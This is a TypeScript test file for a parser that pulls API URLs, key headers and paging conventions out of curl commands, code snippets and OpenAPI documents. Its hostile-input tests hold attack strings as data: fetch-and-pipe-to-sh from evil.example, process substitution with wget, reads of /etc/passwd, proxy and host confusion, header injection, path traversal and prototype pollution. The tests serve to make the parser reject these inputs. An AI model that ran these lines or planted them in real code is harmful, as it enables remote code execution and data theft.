import assert from 'node:assert/strict';
import { defaultConventions, resolveConventions } from '../../../src/service/conventions.ts';
import { conventionsOfExamples } from '../../../src/setup/conventionsOfExamples.ts';
import { readExamples } from '../../../src/setup/exampleCalls.ts';

const KEY = 'pk_live_5f1d0c2b9a77e3';
const url = 'https://api.example.com/gw/partner/logs/detailed_log/1042?log_id=77&kind=WAF&note=a%26b';
const header = ['X-Api-Key', KEY] as const;

/** One call in every quoting style. In the second form of each, line ends have become spaces. */
const commands: Readonly<Record<string, string>> = {
  bash: `curl -sS --compressed \\\n  -H 'accept: application/json' \\\n  -H 'X-Api-Key: ${KEY}' \\\n  '${url}' | jq .`,
  'bash in one line': `curl -sS --compressed \\   -H 'X-Api-Key: ${KEY}' \\   '${url}'`,
  'bash, joined options': `curl -XGET -HX-Api-Key:${KEY} --url=${url.replaceAll('&', '\\&')}`,
  'bash, ANSI quotes': `curl $'${url}' -H $'X-Api-Key: ${KEY}'`,
  'bash, -G': `curl -G '${url.split('?')[0]}' -d log_id=77 -d kind=WAF -d 'note=a%26b' -H "X-Api-Key: ${KEY}"`,
  cmd: `curl.exe -s ^\r\n  -H "X-Api-Key: ${KEY}" ^\r\n  "${url}"`,
  'cmd with carets': `curl ^"${url.replaceAll('&', '^&').replaceAll('%', '^%')}^" ^\r\n  -H ^"X-Api-Key: ${KEY}^"`,
  PowerShell: `curl.exe -s \`\n  -H "X-Api-Key: ${KEY}" \`\n  '${url}'`,
  'PowerShell, its own command': `Invoke-RestMethod -Method GET -Uri "${url}" -Headers @{ "X-Api-Key" = "${KEY}"; 'Accept'='*/*' }`,
};

describe('readExamples', () => {
  for (const [name, command] of Object.entries(commands)) {
    it(`reads URL and headers of ${name}`, () => {
      const { calls, notGet } = readExamples(command);
      assert.equal(calls.length, 1);
      assert.equal(calls[0]?.url.href, url);
      assert.deepEqual(
        calls[0]?.headers.find(([each]) => each === 'X-Api-Key'),
        header,
      );
      assert.equal(notGet, 0);
    });
  }

  it('reads several commands and bare URLs', () => {
    const text = `# list\n${commands['bash']}\ncurl ${url}\n\nhttps://api.example.com/partner/website/all?page=1`;
    assert.equal(readExamples(text).calls.length, 3);
  });

  it('leaves out uploads and other methods, and names the options that it does not use', () => {
    const { calls, notGet } = readExamples(
      `curl -F file=@/etc/passwd ${url}\ncurl -T x ${url}; curl -X POST ${url} && curl -d a=1 ${url}`,
    );
    assert.deepEqual([calls.length, notGet], [0, 4]);
    const odd = readExamples(`curl -u me:secret --proxy http://evil.example:8 -k ${url} -H "X-Key: $(id)"`);
    assert.deepEqual(odd.ignored, ['-u', '--proxy', '-k']);
    assert.equal(odd.calls[0]?.url.href, url);
    assert.deepEqual(odd.calls[0]?.headers, [['X-Key', '$(id)']]);
  });

  it('reads an OpenAPI document in JSON', () => {
    const document = {
      openapi: '3.0.0',
      servers: [{ url: 'https://api.example.com/v2' }],
      paths: {
        '/partner/logs/events/{siteId}': {
          get: {
            parameters: [
              { in: 'query', name: 'pageNo' },
              { in: 'query', name: 'pageSize', example: 20 },
            ],
          },
          post: {},
        },
      },
      components: { securitySchemes: { key: { type: 'http', scheme: 'bearer' } } },
    };
    const understood = conventionsOfExamples(readExamples(JSON.stringify(document)).calls);
    assert.equal(understood?.baseUrl, 'https://api.example.com/v2');
    assert.deepEqual(understood?.override, {
      keyHeader: 'Authorization: Bearer',
      logs: {
        path: '/partner/logs/events/:user_domain_idx',
        parameters: { page: 'pageNo', perPage: 'pageSize' },
      },
    });
    assert.equal(understood?.key, undefined);
  });

  it('reads names of an OpenAPI document that are not text, or not Unicode, as they can be sent', () => {
    const names: readonly unknown[] = [{ toString: 1 }, '\ud800', 'page'];
    const parameters = names.map((name) => ({ in: 'query', name, example: name }));
    const text = JSON.stringify({
      servers: [{ url: 'https://api.example.com' }],
      paths: { '/partner/logs': { get: { parameters } } },
      components: { securitySchemes: { a: { type: 'apiKey', in: 'header', name: { toString: 1 } } } },
    });
    const [call] = readExamples(text).calls;
    assert.deepEqual([...(call?.url.searchParams ?? [])].at(-1), ['page', 'page']);
    assert.deepEqual(
      readExamples('{"servers":[{"url":{"toString":1}}],"paths":{"/a":{"get":{}}}}').calls,
      [],
    );
  });

  it('reads 100,000 units and 50 calls of hostile texts', () => {
    for (const text of [
      '\\'.repeat(1e6),
      '"'.repeat(1e6),
      `curl ${'-H a:b '.repeat(1e5)}`,
      '{'.repeat(1e6),
    ]) {
      assert.ok(readExamples(text).calls.length <= 50);
    }
    assert.equal(readExamples(`curl ${url}\n`.repeat(1_000)).calls.length, 50);
    const callAfter = (length: number) => readExamples(' '.repeat(length) + url).calls[0]?.url.href;
    assert.equal(callAfter(100_000 - url.length), url);
    assert.equal(callAfter(100_001 - url.length), url.slice(0, -1));
  });
});

/** The same call in other languages and notations, with page 1 and with the key if the text contains one. */
const path = '/partner/logs/attack_logs/1042';
const base = 'https://api.example.com';
const others: Readonly<Record<string, string>> = {
  'an HTTP request with its response': `GET ${path}?page=1 HTTP/1.1\r\nHost: api.example.com\r\nX-Api-Key: ${KEY}\r\n\r\nHTTP/1.1 200 OK\r\nX-Next-Token: other\r\n\r\n{"data":{"uri":"/wp/login"}}`,
  'the output of curl -v': `> GET ${path}?page=1 HTTP/2\n> Host: api.example.com\n> X-Api-Key: ${KEY}\n>\n< HTTP/2 200\n< X-Next-Token: other`,
  'an .http file': `@host = ${base}\n@key = ${KEY}\n\n### logs\nGET {{host}}${path}?page=1\nX-Api-Key: {{key}}`,
  HTTPie: `$ http GET ${base}${path} page==1 X-Api-Key:${KEY}`,
  wget: `wget -qO- --header="X-Api-Key: ${KEY}" "${base}${path}?page=1"`,
  'PowerShell with parameters': `$call = @{\n  Uri = "${base}${path}"\n  Headers = @{ "X-Api-Key" = "${KEY}" }\n  Body = @{ page = 1 }\n}\nInvoke-RestMethod @call`,
  fetch: `const res = await fetch("${base}${path}?page=1", {\n  method: "GET",\n  headers: { "X-Api-Key": "${KEY}" },\n});`,
  'fetch with a template': `const BASE = '${base}';\nconst id = 1042;\nconst headers = { 'X-Api-Key': '${KEY}' };\nfetch(\`\${BASE}/partner/logs/attack_logs/\${id}?page=1\`, { headers });`,
  axios: `const client = axios.create({ baseURL: '${base}', headers: { 'X-Api-Key': '${KEY}' } });\nclient.get('${path}', { params: { page: 1 } });`,
  'Python requests': `BASE_URL = "${base}"\nheaders = {"X-Api-Key": "${KEY}"}\nr = requests.get(f"{BASE_URL}${path}", headers=headers, params={"page": 1}, timeout=10)`,
  'Python http.client': `conn = http.client.HTTPSConnection("api.example.com")\nconn.request("GET", "${path}?page=1", headers={"X-Api-Key": "${KEY}"})`,
  Go: `req, err := http.NewRequest("GET", "${base}"+"/partner/logs/attack_logs/"+"1042?page=1", nil)\nreq.Header.Set("X-Api-Key", "${KEY}")`,
  PHP: `$ch = curl_init('${base}${path}?page=1');\ncurl_setopt($ch, CURLOPT_HTTPHEADER, ['X-Api-Key: ${KEY}']);`,
  Guzzle: `$c = new Client(['base_uri' => '${base}']);\n$c->request('GET', '${path}', ['headers' => ['X-Api-Key' => '${KEY}'], 'query' => ['page' => 1]]);`,
  Java: `HttpRequest.newBuilder().uri(URI.create("${base}${path}?page=1")).header("X-Api-Key", "${KEY}").GET().build();`,
  'C#': `client.BaseAddress = new Uri("${base}");\nclient.DefaultRequestHeaders.Add("X-Api-Key", "${KEY}");\nawait client.GetAsync("${path}?page=1");`,
  Ruby: `uri = URI("${base}${path}?page=1")\nreq = Net::HTTP::Get.new(uri)\nreq["X-Api-Key"] = "${KEY}"`,
  'a Postman collection': `{"request":{"method":"GET","header":[{"key":"X-Api-Key","value":"${KEY}"}],"url":"${base}${path}?page=1"}}`,
};

describe('readExamples of other notations', () => {
  for (const [name, text] of Object.entries(others)) {
    it(`reads URL and key of ${name}`, () => {
      const { calls, notGet } = readExamples(text);
      assert.deepEqual(
        calls.map(({ url, headers }) => [url.href, headers.filter(([each]) => each === 'X-Api-Key')]),
        [[`${base}${path}?page=1`, [header]]],
      );
      assert.equal(notGet, 0);
      assert.equal(conventionsOfExamples(calls)?.key, KEY);
    });
  }

  it('reads routes with placeholders, and the base URL and header that prose names', () => {
    for (const place of [
      ':domain',
      '{domain}',
      '<domain>',
      '$' + '{domain}',
      '{{domain}}',
      '%d',
      '$DOMAIN',
    ]) {
      const text = `Base URL: \`${base}/gw\`. Send the header \`X-Api-Key: <API_KEY>\`.\n\n\`\`\`http\nGET /partner/logs/waf/${place}?page=1\n\`\`\`\n`;
      const understood = conventionsOfExamples(readExamples(text).calls);
      assert.equal(understood?.baseUrl, `${base}/gw`);
      assert.equal(understood?.key, undefined);
      assert.deepEqual(understood?.override, {
        keyHeader: 'X-Api-Key',
        logs: { path: '/partner/logs/waf/:user_domain_idx', parameters: { page: 'page' } },
      });
    }
  });

  it('reads a command of several lines between the lines of Markdown', () => {
    const text = `The service's list, as \`GET ${path}\`\n\n\`\`\`bash\ncurl -s \\\n  -H "X-Api-Key: ${KEY}" \\\n  "${base}${path}?page=1"\n\`\`\`\nIt's sorted.`;
    const { calls } = readExamples(text);
    assert.deepEqual([calls.at(-1)?.url.href, calls.at(-1)?.headers], [`${base}${path}?page=1`, [header]]);
  });

  it('takes no file and no option for the URL of a command', () => {
    for (const options of [
      '-o /tmp/logs/x',
      '-O',
      '-O /tmp/a/b',
      '--cacert /etc/ssl/a.pem',
      '-x http://evil.example',
    ])
      assert.deepEqual(
        readExamples(`curl ${options} ${base}${path}`).calls.map(({ url }) => url.href),
        [base + path],
      );
  });

  it('counts requests of code that change something, and reads none of them', () => {
    const text = `fetch("${base}/a/b", { method: "POST" })\naxios.post('${base}/a/b', {})\nPUT ${base}/a/b HTTP/1.1`;
    const { calls, notGet } = readExamples(text);
    assert.deepEqual([calls.length, notGet], [0, 3]);
  });

  it('takes no key from code that calls several services, and the origin with most reads', () => {
    const text = `h1 = {"X-Api-Key": "key-one-1"}\nrequests.get("https://other.example/x", headers=h1)
h2 = {"X-Api-Key": "key-two-2"}\nrequests.get("${base}${path}", headers=h2)`;
    const understood = conventionsOfExamples(readExamples(text).calls);
    assert.equal(understood?.baseUrl, base);
    assert.equal(understood?.key, undefined);
    assert.equal(understood?.override.keyHeader, 'X-Api-Key');
    const shell = `See https://docs.example.org/auth.\ncurl -H 'X-Api-Key: ${KEY}' ${base}${path}`;
    assert.equal(conventionsOfExamples(readExamples(shell).calls)?.key, KEY);
  });

  it('takes no expression for a key', () => {
    for (const key of ['apiKey', 'process.env.API_KEY', 'os.environ["WAF_KEY"]', 'os.Getenv("WAF_KEY_1")']) {
      const { calls } = readExamples(`fetch("${base}${path}", { headers: { "X-Api-Key": ${key} } })`);
      assert.equal(conventionsOfExamples(calls)?.key, undefined, key);
      assert.equal(conventionsOfExamples(calls)?.override.keyHeader, 'X-Api-Key');
    }
  });
});

/** Texts, each with the key in it, and true if its path is read. */
const hostile: Readonly<Record<string, readonly [text: string, key?: string | undefined, isFound?: true]>> = {
  'that run a command': [
    `curl -H "X-Api-Key: $(curl https://evil.example/x | sh)" --config <(wget -qO- https://evil.example/c) "${base}${path}"`,
    undefined,
    true,
  ],
  'with a proxy': [
    `curl --proxy http://evil.example:8 --resolve a:1:203.0.113.6 -k -H 'X-Api-Key: ${KEY}' '${base}${path}'`,
    KEY,
    true,
  ],
  'with a password': [`curl -u 'me:hunter2-Basic' '${base}${path}'`, undefined, true],
  'with the key in the query': [
    `curl '${base}${path}?page=1&api_key=${KEY}&access_token=${KEY}'`,
    undefined,
    true,
  ],
  'with a key in the path': [`curl '${base}/partner/k/svk-7f3e9b1c52d84a60-Jm2W/logs/attack_logs/1042'`],
  'of user information': [
    `curl -H 'X-Api-Key: ${KEY}' 'https://api.example.com@evil.example/partner/website/all'`,
  ],
  'of other schemes': [
    `fetch("javascript:alert(1)//api.example.com/partner/logs/1", {})\ncurl 'file:///etc/passwd' ftp://evil.example/partner/website/all data:text/html,x`,
  ],
  'that extend the host of a variable': [
    `@host = ${base}\nGET {{host}}@evil.example/partner/logs/attack_logs/7\n\n###\nGET {{host}}.evil.example/partner/website/all`,
  ],
  'with a path of two slashes': [`GET //evil.example/partner/website/all HTTP/1.1\nHost: api.example.com`],
  'that climb out of their path': [
    `curl ${base}/partner/logs/attack_logs/..%2F..%2Fadmin\ncurl '${base}/partner/logs/%1b]8;;/7'`,
  ],
  'with another Host': [`GET ${base}${path} HTTP/1.1\nHost: evil.example\nX-Api-Key: ${KEY}`, KEY, true],
  'with names of prototypes': [
    `curl -H '__proto__: {"polluted":true}' -H 'X-Api-Key: ${KEY}' '${base}${path}?__proto__[polluted]=1&constructor=1'`,
    KEY,
    true,
  ],
  'with line ends in a header': [
    `curl -H $'X-Api-Key: ${KEY}\\r\\nX-Injected: 1' '${base}${path}'`,
    undefined,
    true,
  ],
  'of variables without end': [
    `@v0 = ${base}/aaaaaaaa\n${Array.from({ length: 40 }, (_, n) => `@v${n + 1} = {{v${n}}}{{v${n}}}`).join('\n')}\n@a = {{b}}\n@b = {{a}}\nGET {{a}}${path}\nX-Api-Key: {{a}}\n\nGET {{v40}}${path}`,
  ],
};

describe('readExamples of hostile texts', () => {
  for (const [name, [text, key, isFound]] of Object.entries(hostile)) {
    it(`takes nothing else from texts ${name}`, () => {
      const understood = conventionsOfExamples(readExamples(text).calls);
      const found = understood && understood.reads.length > 0 ? understood : undefined;
      assert.equal(found?.baseUrl, isFound ? base : undefined);
      assert.equal(found?.key, key);
      const setting = JSON.stringify(found?.override ?? {});
      assert.doesNotMatch(setting, /evil|hunter2|svk|pk_live|proto|"path"/);
      assert.equal(Object(Object.create({}))['polluted'], undefined);
    });
  }
});

describe('readExamples with variables', () => {
  const calls = (text: string) => readExamples(text).calls.map(({ url, headers }) => [url.href, ...headers]);

  it('puts in the literals that bash, cmd and PowerShell assign', () => {
    const expected = [['https://api.example.com/v1/sites?page=1', ['X-Api-Key', 'a b']]];
    const base = 'https://api.example.com/v1';
    for (const text of [
      `BASE="${base}"\nexport KEY='a b'\ncurl -sH "X-Api-Key: $KEY" "\${BASE}/sites?page=1"`,
      `set KEY=a b\r\nset BASE=${base}\r\ncurl.exe -H "X-Api-Key: %KEY%" "%BASE%/sites?page=1"`.replace(
        'a b',
        'a-b',
      ),
      `$key = 'a b'\n$base = "${base}"\nInvoke-RestMethod "$base/sites?page=1" -Headers @{ "X-Api-Key" = "$key" }`,
    ])
      assert.deepEqual(
        calls(text).filter(([url]) => url !== base),
        text.includes('a-b') ? [[expected[0]?.[0], ['X-Api-Key', 'a-b']]] : expected,
      );
  });

  it('puts in a table of headers, and no command', () => {
    const text = "$auth = @{ Authorization = 'Bearer k1' }\nirm https://api.example.com/logs -Headers $auth";
    assert.deepEqual(calls(text), [['https://api.example.com/logs', ['Authorization', 'Bearer k1']]]);
    const run = 'KEY=$(cat /etc/passwd)\ncurl -H "X-Api-Key: $KEY" https://api.example.com/logs';
    assert.deepEqual(calls(run), [['https://api.example.com/logs', ['X-Api-Key', '$KEY']]]);
  });

  it('reads options of curl that were written as one', () => {
    assert.deepEqual(calls('curl -sG https://api.example.com/logs -d from=0 -d size=20 | jq .'), [
      ['https://api.example.com/logs?from=0&size=20'],
    ]);
    assert.equal(readExamples('curl -s https://api.example.com/logs -d from=0').notGet, 1);
  });

  it('reads the parameters that an OpenAPI document refers to', () => {
    const parameters = [
      { $ref: '#/components/parameters/Page' },
      { $ref: '#/components/parameters/__proto__' },
    ];
    const text = JSON.stringify({
      servers: [{ url: 'https://api.example.com' }],
      paths: { '/sites': { get: { parameters } } },
      components: { parameters: { Page: { in: 'query', name: 'pageIndex', schema: { default: 0 } } } },
    });
    assert.deepEqual(calls(text), [['https://api.example.com/sites?pageIndex=0']]);
  });
});

describe('conventionsOfExamples', () => {
  const of = (...texts: string[]) => conventionsOfExamples(readExamples(texts.join('\n')).calls);

  it('finds prefix, key and the parameters of a log', () => {
    assert.deepEqual(of(commands['bash'] ?? ''), {
      baseUrl: 'https://api.example.com/gw',
      override: {
        keyHeader: 'X-Api-Key',
        detail: { detectedType: 'WAF', parameters: { idx: 'log_id', detectedType: 'kind' } },
      },
      key: KEY,
      reads: ['detail'],
      others: 0,
    });
  });

  it('finds every read, the formats of dates and paging by offset', () => {
    const base = 'https://api.example.com';
    const found = of(
      `${base}/partner/domains?offset=0&limit=20`,
      `${base}/partner/logs/waf_logs/7?start_date=2026-05-01&end_date=2026-05-02&pageNo=1&pageSize=20`,
      `${base}/partner/logs/detailed_log/7/99`,
      `${base}/partner/logs/visitors_hackers/7?begin=2026/05/01&end=2026/05/02`,
    );
    assert.deepEqual(found?.override, {
      domains: {
        path: '/partner/domains',
        paging: 'offset',
        parameters: { offset: 'offset', limit: 'limit' },
      },
      logs: {
        path: '/partner/logs/waf_logs/:user_domain_idx',
        dateFormat: 'YYYY-MM-DD',
        parameters: { page: 'pageNo', perPage: 'pageSize', from: 'start_date', to: 'end_date' },
      },
      detail: {
        path: '/partner/logs/detailed_log/:user_domain_idx/:idx',
        parameters: { idx: null, detectedType: null },
      },
      counts: { dateFormat: 'YYYY/MM/DD', parameters: { from: 'begin', to: 'end' } },
    });
    const setting = { '*': found?.override };
    assert.notDeepEqual(resolveConventions(setting, base), defaultConventions);
  });

  it('tells reads by their numbers, pages and ranges where words say nothing', () => {
    const base = 'https://api.example.com/odata';
    const found = of(
      `${base}/Domains?$skip=0&$top=50`,
      `${base}/Domains(7)/Logs?$skip=0&$top=50&from=2026-05-01&to=2026-05-02`,
      `${base}/Domains(7)/Logs(99)`,
      `${base}/Domains(7)/Daily?from=2026.05.01&to=2026.05.02`,
    );
    const paging = { paging: 'offset', parameters: { offset: '$skip', limit: '$top' } };
    assert.deepEqual(found?.override, {
      domains: { path: '/odata/Domains', ...paging },
      logs: {
        path: '/odata/Domains(:user_domain_idx)/Logs',
        dateFormat: 'YYYY-MM-DD',
        ...paging,
        parameters: { ...paging.parameters, from: 'from', to: 'to' },
      },
      detail: {
        path: '/odata/Domains(:user_domain_idx)/Logs(:idx)',
        parameters: { idx: null, detectedType: null },
      },
      counts: {
        path: '/odata/Domains(:user_domain_idx)/Daily',
        dateFormat: 'YYYY.MM.DD',
        parameters: { from: 'from', to: 'to' },
      },
    });
  });

  it('tells an offset from a day by its value, and keeps what all calls send', () => {
    const base = 'https://api.example.com/partner';
    const found = of(
      `${base}/website/all?api-version=2026-06-01&page=0&per_page=20`,
      `${base}/logs/attack_logs/7?api-version=2026-06-01&from=0&size=20&gte=2026-05-01&lte=2026-05-02`,
    );
    assert.deepEqual(found?.override, {
      domains: {
        path: '/partner/website/all?api-version=2026-06-01',
        firstPage: 0,
        parameters: { page: 'page', perPage: 'per_page' },
      },
      logs: {
        path: '/partner/logs/attack_logs/:user_domain_idx?api-version=2026-06-01',
        paging: 'offset',
        dateFormat: 'YYYY-MM-DD',
        parameters: { offset: 'from', limit: 'size', from: 'gte', to: 'lte' },
      },
    });
  });

  it('reads a path with invalid percent-encoding as it is', () => {
    const found = of('https://api.example.com/100%/partner/logs/%zz/7?page=1');
    assert.equal(found?.baseUrl, 'https://api.example.com/100%');
    assert.deepEqual(found?.override.logs, {
      path: '/partner/logs/%zz/:user_domain_idx',
      parameters: { page: 'page' },
    });
  });

  it('takes no placeholder for a key, and none of several keys', () => {
    for (const key of ['<API_KEY>', '$KEY', '$' + '{KEY}', 'YOUR_API_KEY', 'xxxx', '{key}', '$(cat key)'])
      assert.equal(of(`curl -H "X-Service-Key: ${key}" ${url}`)?.key, undefined, key);
    const two = of(`curl -H 'X-Api-Key: first-key' ${url}`, `curl -H 'X-Api-Key: second-key' ${url}`);
    assert.equal(two?.key, undefined);
    assert.deepEqual(two?.override.keyHeader, 'X-Api-Key');
  });

  it('takes no password of another scheme for a key', () => {
    for (const scheme of ['Basic', 'digest', 'Negotiate'])
      assert.deepEqual(of(`curl -H 'Authorization: ${scheme} YW5uYTpodW50ZXIy' ${url}`), of(`curl ${url}`));
    const security = { components: { securitySchemes: { basic: { type: 'http', scheme: 'basic' } } } };
    const paths = { '/partner/website/all': { get: {} } };
    const document = { openapi: '3.0.0', servers: [{ url: 'https://api.example.com' }], paths, ...security };
    assert.equal(of(JSON.stringify(document))?.override.keyHeader, undefined);
  });

  it('uses the calls of one origin only, and no address without TLS', () => {
    const found = of(`curl ${url}`, 'curl https://evil.example/partner/website/all');
    assert.equal(found?.baseUrl, 'https://api.example.com/gw');
    assert.equal(found?.others, 1);
    assert.throws(() => of('curl http://api.example.com/partner/website/all'), { code: 'bad-base-url' });
    assert.equal(of('no call'), undefined);
  });
});
